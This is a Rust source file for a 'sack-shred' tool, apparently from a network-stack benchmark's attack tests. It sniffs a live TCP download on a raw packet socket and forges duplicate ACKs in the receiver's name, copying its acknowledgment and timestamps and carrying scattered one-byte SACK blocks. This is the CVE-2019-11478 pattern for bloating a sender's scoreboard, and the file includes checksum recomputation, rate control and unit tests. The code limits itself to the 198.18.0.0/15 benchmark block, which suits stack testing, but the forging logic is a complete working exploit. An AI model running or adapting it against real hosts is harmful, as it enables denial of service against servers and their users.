//! `xstack sack-shred`: a SACK-shredding receiver for the attack tests. It watches one
//! live download (the connection from a given client port to DST) on a packet socket and
//! sends, in the receiver's name, duplicate ACKs whose SACK blocks cover single bytes
//! with one-byte gaps between them, scattered over the data in flight: the pattern that
//! makes a sender's scoreboard as large and as slow as it can be (Linux's
//! CVE-2019-11478, FreeBSD's `net.inet.tcp.sack.maxholes`). The ACKs copy the
//! receiver's latest acknowledgment, window and timestamps, so the sender takes them as
//! the receiver's own.
//!
//! Like the floods, it refuses any flow outside 198.18.0.0/15.

use std::net::SocketAddrV4;
use std::time::{Duration, Instant};

use anyhow::bail;

use crate::flood::{csum, inside, packet_socket, send_to, BENCH_NET};

/// SACK blocks per forged ACK: three fit beside the timestamp option.
pub const MAX_BLOCKS: u32 = 3;

/// What the tool knows of the flow, from the frames it saw.
#[derive(Default)]
struct Flow {
    /// The receiver's last frame to the sender (headers and all): the template.
    template: Option<Vec<u8>>,
    /// The receiver's last acknowledgment, and its timestamp value and echo.
    ack: u32,
    ts: Option<(u32, u32)>,
    /// One past the highest byte the sender sent.
    snd_max: u32,
}

/// A TCP frame's fields the tool reads (Ethernet + IPv4 without options + TCP).
struct Seen<'a> {
    src: SocketAddrV4,
    dst: SocketAddrV4,
    seq: u32,
    ack: u32,
    payload: u32,
    options: &'a [u8],
}

fn parse(f: &[u8]) -> Option<Seen<'_>> {
    if f.len() < 54 || f[12..14] != [0x08, 0x00] || f[14] != 0x45 || f[23] != 6 {
        return None;
    }
    let total = usize::from(u16::from_be_bytes([f[16], f[17]]));
    let t = f.get(34..14 + total)?;
    let doff = usize::from(t[12] >> 4) * 4;
    if !(20..=t.len()).contains(&doff) {
        return None;
    }
    let ip = |at: usize| std::net::Ipv4Addr::new(f[at], f[at + 1], f[at + 2], f[at + 3]);
    let port = |at: usize| u16::from_be_bytes([t[at], t[at + 1]]);
    let word = |at: usize| u32::from_be_bytes([t[at], t[at + 1], t[at + 2], t[at + 3]]);
    Some(Seen {
        src: SocketAddrV4::new(ip(26), port(0)),
        dst: SocketAddrV4::new(ip(30), port(2)),
        seq: word(4),
        ack: word(8),
        payload: (t.len() - doff) as u32,
        options: &t[20..doff],
    })
}

/// The timestamp option's (value, echo), if present.
fn timestamps(mut opts: &[u8]) -> Option<(u32, u32)> {
    while let [kind, rest @ ..] = opts {
        match kind {
            0 => return None,
            1 => opts = rest,
            _ => {
                let len = usize::from(*rest.first()?);
                if len < 2 || len > opts.len() {
                    return None;
                }
                if *kind == 8 && len == 10 {
                    let w = |i: usize| u32::from_be_bytes(opts[i..i + 4].try_into().unwrap());
                    return Some((w(2), w(6)));
                }
                opts = &opts[len..];
            }
        }
    }
    None
}

impl Flow {
    /// Learns from one frame on the interface.
    fn see(&mut self, frame: &[u8], client: SocketAddrV4, server: SocketAddrV4) {
        let Some(s) = parse(frame) else {
            return;
        };
        if s.src == client && s.dst == server {
            self.ack = s.ack;
            self.ts = timestamps(s.options);
            self.template = Some(frame[..54].to_vec());
        } else if s.src == server && s.dst == client {
            let end = s.seq.wrapping_add(s.payload);
            if self.template.is_none() || end.wrapping_sub(self.snd_max) as i32 > 0 {
                self.snd_max = end;
            }
        }
    }

    /// The `n`th forged ACK: the receiver's last ACK with `blocks` one-byte SACK blocks,
    /// two bytes apart, at a place in flight that moves with `n` (with 0 blocks, a plain
    /// duplicate of the receiver's last ACK); `None` while less than a few bytes are in
    /// flight.
    fn forge(&self, n: u64, blocks: u32) -> Option<Vec<u8>> {
        let template = self.template.as_ref()?;
        let span = self.snd_max.wrapping_sub(self.ack);
        if span > 1 << 30 {
            return None;
        }
        // Scatter the blocks: a stride coprime with most spans walks every even offset.
        let pairs = ((span.saturating_sub(1)) / 2).checked_sub(MAX_BLOCKS)?;
        if pairs == 0 {
            return None;
        }
        let first = self.ack + 1 + 2 * ((n.wrapping_mul(7919) % u64::from(pairs)) as u32);
        let mut opts = Vec::with_capacity(40);
        if let Some((val, ecr)) = self.ts {
            opts.extend_from_slice(&[1, 1, 8, 10]);
            opts.extend_from_slice(&val.to_be_bytes());
            opts.extend_from_slice(&ecr.to_be_bytes());
        }
        if blocks == 0 {
            return Some(frame_with_options(template, &opts));
        }
        opts.extend_from_slice(&[1, 1, 5, 2 + 8 * blocks as u8]);
        for k in 0..blocks {
            let left = first.wrapping_add(2 * k);
            opts.extend_from_slice(&left.to_be_bytes());
            opts.extend_from_slice(&left.wrapping_add(1).to_be_bytes());
        }
        Some(frame_with_options(template, &opts))
    }
}

/// `template` (an Ethernet + IPv4 + 20-byte TCP ACK) with `opts` as its TCP options, no
/// payload, the PSH flag cleared and both checksums recomputed.
fn frame_with_options(template: &[u8], opts: &[u8]) -> Vec<u8> {
    let mut f = template[..54].to_vec();
    f.extend_from_slice(opts);
    let tcp_len = 20 + opts.len();
    f[16..18].copy_from_slice(&((20 + tcp_len) as u16).to_be_bytes());
    f[24..26].copy_from_slice(&[0, 0]);
    let c = csum(&f[14..34], 0);
    f[24..26].copy_from_slice(&c.to_be_bytes());
    f[46] = ((tcp_len / 4) as u8) << 4;
    f[47] = 0x10;
    f[50..52].copy_from_slice(&[0, 0]);
    let mut pseudo = 6 + tcp_len as u32;
    for w in f[26..34].chunks(2) {
        pseudo += u32::from(u16::from_be_bytes([w[0], w[1]]));
    }
    let c = csum(&f[34..], pseudo);
    f[50..52].copy_from_slice(&c.to_be_bytes());
    f
}

/// Shreds the download from `client` to `server` seen on `iface` at `rate` forged ACKs a
/// second for `seconds`, `blocks` SACK blocks in each (0: plain duplicate ACKs, the same
/// load on the wire and the sender without the shredding, a test's control); prints one
/// JSON line.
pub fn sack_shred(
    iface: &str,
    server: SocketAddrV4,
    client: SocketAddrV4,
    rate: u64,
    seconds: f64,
    blocks: u32,
) -> anyhow::Result<()> {
    if !inside(*server.ip(), BENCH_NET) || !inside(*client.ip(), BENCH_NET) {
        bail!("both ends must be inside 198.18.0.0/15 (got {client} -> {server})");
    }
    if blocks > MAX_BLOCKS {
        bail!("--blocks must be at most {MAX_BLOCKS} (got {blocks})");
    }
    let (fd, at) = packet_socket(iface, libc::ETH_P_ALL)?;
    let (start, mut flow, mut sent) = (Instant::now(), Flow::default(), 0u64);
    let mut buf = [0u8; 2048];
    while start.elapsed().as_secs_f64() < seconds {
        // SAFETY: `buf` is writable for its length.
        let n = unsafe { libc::recv(fd, buf.as_mut_ptr().cast(), buf.len(), libc::MSG_DONTWAIT) };
        if n > 0 {
            flow.see(&buf[..n as usize], client, server);
            continue;
        }
        if sent >= (start.elapsed().as_secs_f64() * rate as f64) as u64 {
            std::thread::sleep(Duration::from_micros(50));
            continue;
        }
        match flow.forge(sent, blocks) {
            Some(f) => sent += u64::from(send_to(fd, &f, &at)),
            None => std::thread::sleep(Duration::from_micros(200)),
        }
    }
    // SAFETY: closing the descriptor opened above, once.
    unsafe { libc::close(fd) };
    if flow.template.is_none() {
        bail!("no packet of {client} -> {server} seen on {iface}");
    }
    println!(
        "{}",
        serde_json::json!({"sent": sent, "seconds": start.elapsed().as_secs_f64(),
            "flow": format!("{client} -> {server}")})
    );
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// An ACK from client to server as the kernel would send it, with timestamps.
    fn ack_frame(client: SocketAddrV4, server: SocketAddrV4, ack: u32) -> Vec<u8> {
        let mut f = vec![0u8; 54];
        f[12..14].copy_from_slice(&[0x08, 0x00]);
        f[14] = 0x45;
        f[22] = 64;
        f[23] = 6;
        f[26..30].copy_from_slice(&client.ip().octets());
        f[30..34].copy_from_slice(&server.ip().octets());
        f[34..36].copy_from_slice(&client.port().to_be_bytes());
        f[36..38].copy_from_slice(&server.port().to_be_bytes());
        f[42..46].copy_from_slice(&ack.to_be_bytes());
        f[48..50].copy_from_slice(&500u16.to_be_bytes());
        let ts = [1, 1, 8, 10, 0, 0, 0, 7, 0, 0, 0, 9];
        frame_with_options(&f, &ts)
    }

    fn data_frame(server: SocketAddrV4, client: SocketAddrV4, seq: u32, len: u32) -> Vec<u8> {
        let mut f = ack_frame(server, client, 1);
        f[16..18].copy_from_slice(&((52 + len) as u16).to_be_bytes());
        f[38..42].copy_from_slice(&seq.to_be_bytes());
        f.resize(66 + len as usize, 0);
        f
    }

    #[test]
    fn forged_acks_carry_one_byte_blocks_in_flight_and_valid_checksums() {
        let c: SocketAddrV4 = "198.18.0.2:40000".parse().unwrap();
        let s: SocketAddrV4 = "198.18.0.1:80".parse().unwrap();
        let mut flow = Flow::default();
        flow.see(&ack_frame(c, s, 1000), c, s);
        assert!(flow.forge(0, MAX_BLOCKS).is_none(), "nothing in flight yet");
        flow.see(&data_frame(s, c, 1000, 1448), c, s);
        flow.see(&data_frame(s, c, 2448, 1448), c, s);
        assert_eq!(flow.snd_max, 3896);
        for n in 0..50 {
            let f = flow.forge(n, MAX_BLOCKS).unwrap();
            let seen = parse(&f).unwrap();
            assert_eq!((seen.src, seen.dst, seen.ack), (c, s, 1000));
            assert_eq!(seen.payload, 0);
            assert_eq!(timestamps(seen.options), Some((7, 9)));
            assert_eq!(csum(&f[14..34], 0), 0, "IP checksum");
            let mut pseudo = 6 + (f.len() - 34) as u32;
            for w in f[26..34].chunks(2) {
                pseudo += u32::from(u16::from_be_bytes([w[0], w[1]]));
            }
            assert_eq!(csum(&f[34..], pseudo), 0, "TCP checksum");
            let sack = &seen.options[12..];
            assert_eq!(sack[..4], [1, 1, 5, 26]);
            for b in sack[4..].chunks(8) {
                let l = u32::from_be_bytes(b[..4].try_into().unwrap());
                let r = u32::from_be_bytes(b[4..].try_into().unwrap());
                assert_eq!(r, l + 1, "one byte");
                assert!(l > 1000 && r < 3896, "inside the flight: {l}");
            }
        }
        // With no blocks: the receiver's ACK as it was, timestamps only (the control).
        let plain = flow.forge(3, 0).unwrap();
        let seen = parse(&plain).unwrap();
        assert_eq!((seen.ack, seen.payload), (1000, 0));
        assert_eq!(seen.options.len(), 12, "timestamps only");
        assert_eq!(timestamps(seen.options), Some((7, 9)));
    }

    #[test]
    fn flows_outside_the_benchmark_block_are_refused() {
        let err = sack_shred(
            "lo",
            "10.0.0.1:80".parse().unwrap(),
            "198.18.0.2:4".parse().unwrap(),
            1,
            0.0,
            MAX_BLOCKS,
        );
        assert!(err.unwrap_err().to_string().contains("198.18.0.0/15"));
    }
}
